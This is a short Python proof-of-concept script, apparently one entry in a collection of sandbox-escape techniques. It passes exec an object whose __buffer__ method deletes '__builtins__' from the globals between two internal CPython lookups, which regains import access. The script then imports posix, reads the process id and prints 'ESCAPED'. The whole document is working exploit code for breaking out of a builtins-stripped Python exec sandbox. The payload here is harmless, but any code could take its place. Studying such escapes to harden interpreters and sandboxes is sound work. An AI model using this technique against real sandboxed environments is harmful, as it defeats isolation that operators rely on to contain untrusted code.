# technique: exec of an object whose __buffer__ deletes __builtins__ between CPython's two looks
# goal: builtins
# python: 3.12+
# source: own analysis: run_eval_code_obj() in pythonrun.c
g = {}


class Text:
    def __buffer__(self, flags):
        g.pop('__builtins__', None)
        return memoryview(b'import posix\npid = posix.getpid()\n\0')[:-1]


exec(Text(), g)
print('ESCAPED pid=%d' % g['pid'])
